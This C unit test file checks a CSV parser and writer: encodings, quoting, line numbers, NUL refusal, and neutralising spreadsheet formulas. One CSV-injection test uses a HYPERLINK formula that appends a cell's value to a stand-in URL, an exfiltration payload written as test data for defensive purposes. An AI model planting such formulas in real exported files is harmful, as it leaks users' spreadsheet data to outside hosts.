/* CSV reading as people's files come: BOM, CRLF, quotes with commas and
 * newlines, blank lines, GB18030 from Excel, and the line each row starts. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "base/buf.h"
#include "base/csvx.h"

struct rows {
	int n;
	int line[16];
	char f[16][4][64];
	size_t nf[16];
};

static int collect(void *ctx, int line, char **fields, size_t n)
{
	struct rows *r = ctx;
	if (r->n >= 16)
		return 1;
	r->line[r->n] = line;
	r->nf[r->n] = n;
	for (size_t i = 0; i < n && i < 4; i++)
		snprintf(r->f[r->n][i], 64, "%s", fields[i]);
	r->n++;
	return 0;
}

static void quotes_crlf_bom_blank(void **state)
{
	(void)state;
	const char data[] = "\xEF\xBB\xBFname,code\r\n"
			    "\"金凤, 花园\",A1\r\n"
			    "\r\n"
			    "  spaced  , B2 \r\n"
			    "\"two\nlines\",C3\n"
			    "last,D4";
	struct rows r = {0};
	const char *enc;
	char err[128];
	assert_int_equal(csvx_parse(data, sizeof data - 1, collect, &r, &enc, err, sizeof err), 0);
	assert_string_equal(enc, "utf-8");
	assert_int_equal(r.n, 5);
	assert_string_equal(r.f[0][0], "name");
	assert_string_equal(r.f[1][0], "金凤, 花园");
	assert_int_equal(r.line[1], 2);
	assert_string_equal(r.f[2][0], "spaced");
	assert_string_equal(r.f[2][1], "B2");
	assert_int_equal(r.line[2], 4); /* the blank line 3 is skipped but counted */
	assert_string_equal(r.f[3][0], "two\nlines");
	assert_int_equal(r.line[3], 5);
	assert_string_equal(r.f[4][1], "D4");
	assert_int_equal(r.line[4], 7);
}

static void gb18030(void **state)
{
	(void)state;
	/* "名称,代码\n金凤区,640106\n" in GB18030 */
	const char data[] = "\xC3\xFB\xB3\xC6,\xB4\xFA\xC2\xEB\n\xBD\xF0\xB7\xEF\xC7\xF8,640106\n";
	struct rows r = {0};
	const char *enc;
	char err[128];
	assert_int_equal(csvx_parse(data, sizeof data - 1, collect, &r, &enc, err, sizeof err), 0);
	assert_string_equal(enc, "gb18030");
	assert_int_equal(r.n, 2);
	assert_string_equal(r.f[0][0], "名称");
	assert_string_equal(r.f[1][0], "金凤区");
}

static void utf8_validation(void **state)
{
	(void)state;
	assert_true(csvx_utf8_valid("abc", 3));
	assert_true(csvx_utf8_valid("金凤", strlen("金凤")));
	assert_false(csvx_utf8_valid("\xC3\x28", 2));
	assert_false(csvx_utf8_valid("\xE9\x87", 2)); /* cut short */
	assert_false(csvx_utf8_valid("\xC0\xAF", 2)); /* overlong */
	assert_false(csvx_utf8_valid("\xE0\x80\xAF", 3)); /* overlong, 3 bytes */
	assert_false(csvx_utf8_valid("\xED\xA0\x80", 3)); /* a UTF-16 surrogate */
	assert_false(csvx_utf8_valid("\xF4\x90\x80\x80", 4)); /* past U+10FFFF */
	assert_true(csvx_utf8_valid("\xF0\x9F\x98\x80", 4)); /* an emoji */
	assert_false(csvx_text_ok("a\0b", 3));
	assert_false(csvx_text_ok("a\tb", 3));
	assert_false(csvx_text_ok("\xff", 1));
	assert_true(csvx_text_ok("张三", strlen("张三")));
}

static int count_rows(void *ctx, int line, char **fields, size_t n)
{
	(void)fields;
	(void)n;
	(void)line;
	++*(int *)ctx;
	return 0;
}

/* A NUL byte refuses the whole text (it once cut a unit's name short). */
static void nul_refused(void **state)
{
	(void)state;
	int count = 0;
	const char *enc;
	char err[96];
	static const char data[] = "code,name\nA1,a\0b\n";
	assert_int_equal(csvx_parse(data, sizeof data - 1, count_rows, &count, &enc, err, sizeof err),
			 -1);
	assert_int_equal(count, 0);
	assert_non_null(strstr(err, "line 2"));
	assert_non_null(strstr(err, "NUL"));
}

static int stop_at_two(void *ctx, int line, char **fields, size_t n)
{
	(void)fields;
	(void)n;
	(void)line;
	int *count = ctx;
	return ++*count == 2 ? 7 : 0;
}

static void callback_stops(void **state)
{
	(void)state;
	int count = 0;
	const char *enc;
	char err[64];
	assert_int_equal(csvx_parse("a\nb\nc\n", 6, stop_at_two, &count, &enc, err, sizeof err), 7);
	assert_int_equal(count, 2);
}

static const char *cell(struct buf *b, const char *s)
{
	b->len = 0;
	buf_puts(b, "");
	csvx_cell(b, s);
	return buf_str(b);
}

/* CSV injection (OWASP): a cell a spreadsheet would run is written as text. */
static void formulas_neutralised(void **state)
{
	(void)state;
	struct buf b = {0};
	assert_string_equal(cell(&b, "=HYPERLINK(\"http://x/?\"&A2,\"click\")"),
			    "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"click\"\")\"");
	assert_string_equal(cell(&b, "+1"), "\"'+1\"");
	assert_string_equal(cell(&b, "-2+3"), "\"'-2+3\"");
	assert_string_equal(cell(&b, "@SUM(A1)"), "\"'@SUM(A1)\"");
	assert_string_equal(cell(&b, "\tx"), "\"'\tx\"");
	assert_string_equal(cell(&b, "\rx"), "\"'\rx\"");
	assert_string_equal(cell(&b, "1号楼1单元101"), "1号楼1单元101");
	assert_string_equal(cell(&b, "a,b"), "\"a,b\"");
	assert_string_equal(cell(&b, "a=b"), "a=b");
	buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(quotes_crlf_bom_blank),
		cmocka_unit_test(gb18030),
		cmocka_unit_test(utf8_validation),
		cmocka_unit_test(callback_stops),
		cmocka_unit_test(nul_refused),
		cmocka_unit_test(formulas_neutralised),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
